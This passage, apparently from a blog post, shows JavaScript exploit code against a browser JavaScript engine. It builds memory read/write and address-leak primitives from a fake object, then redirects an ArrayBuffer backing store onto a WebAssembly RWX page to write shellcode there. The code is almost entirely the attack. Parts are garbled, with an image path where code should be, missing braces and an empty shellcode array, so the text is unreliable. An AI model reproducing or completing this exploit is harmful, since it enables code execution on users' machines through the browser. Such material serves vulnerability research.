        addr =BigInt(addr)
        data = []
        arr[fake_obj_elm_index] = itof64(0x00001000, addr - 8n)
        for (let i = 0; i < n; i++) {
            v = fake_obj[i]
            console.log("read: ", itoh(addr - 8n + BigInt(i * 8)), ftoh(v))
        return data

    function write(addr, data) {
        addr = BigInt(addr)
        arr[fake_obj_elm_index] = itof64(0x00001000, addr - 8n)
        fake_obj[0] = itof(data)
        console.log('write: ', itoh(addr - 8n), itoh(data));

    function addrOf(obj) {
        obj_arr[0] = obj
        let addr = read(obj_arr_addr + 8)[0]
        return (ftoi(addr) & 0xffffffffn)

    function write_shellcode(shellcode, rwx_addr){
        var buf = new ArrayBuffer(shellcode.length * 8);
        var data_view = new DataView(buf);
        var buf_addr = addrOf(buf) & 0xffffffffn;
        console.log('buf address: ', itoh(buf_addr));
        var back_store_addr_l = ftoi(read(buf_addr + 24n)[0]);
        var back_store_addr_h = ftoi(read(buf_addr + 32n)[0]);
        var rwx_addr_h = rwx_addr >> 32n;
        var rwx_addr_l = rwx_addr & 0xffffffffn;
        var new_bs_addr_l = (back_store_addr_l & 0xffffffffn) + (rwx_addr_l << 32n);
        var new_bs_addr_h = (back_store_addr_h >> 32n << 32n) + (rwx_addr_h);
        write(buf_addr + 24n, new_bs_addr_l);
        write(buf_addr + 32n, new_bs_addr_h);

        for (var i = 0; i < shellcode.length; i++){
          data_view.setFloat64(i * 8, itof(shellcode[i]), true);


    var wasm_addr = addrOf(wasm_instance);
    console.log('wasm instance address: ', itoh(wasm_addr));
    var rwx_addr = read((wasm_addr + 0x60n))[0];
    console.log('rwx address: ', ftoh(rwx_addr));

    var shellcode = [

    write_shellcode(shellcode, ftoi(rwx_addr));

Leave a Reply

Fill in your details below or click an icon to log in: Logo

You are commenting using your account. Log Out /  Change )Facebook photo

You are commenting using your Facebook account. Log Out /  Change )

Connecting to %s